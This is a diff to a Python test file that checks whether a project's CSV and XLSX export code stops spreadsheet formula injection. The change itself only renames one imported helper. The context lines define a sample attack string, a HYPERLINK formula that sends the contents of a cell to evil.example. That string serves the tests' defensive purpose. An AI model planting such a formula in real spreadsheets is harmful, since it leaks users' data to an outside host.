@@ -16,7 +16,7 @@ from openpyxl import Workbook, load_workbook
 
 from capkin.achievement.tabel import sel_csv
 from capkin.site import PilihanPdf, bangun
-from capkin.site.unduh import _sel_tulis, _sel_xlsx
+from capkin.site.unduh import _sel_xlsx, sel_tulis
 
 SERANGAN = '=HYPERLINK("https://evil.example/?d="&C3,"Klik")'
 AWAL_RUMUS = ("=", "+", "-", "@", "\t", "\r")
@@ -65,7 +65,7 @@ def test_sel_csv_never_starts_a_formula_and_loses_nothing(teks: str) -> None:
 def test_xlsx_text_cells_are_strings_never_formulas(teks: str, kolom: str) -> None:
     wb = Workbook(write_only=True)
     ws = wb.create_sheet("uji")
-    sel = _sel_tulis(ws, _sel_xlsx(kolom, teks))
+    sel = sel_tulis(ws, _sel_xlsx(kolom, teks))
     bersih = teks.translate({c: None for c in range(32) if c not in (9, 10, 13)})
     assert sel.data_type in ("s", "n")
     if sel.data_type == "n":
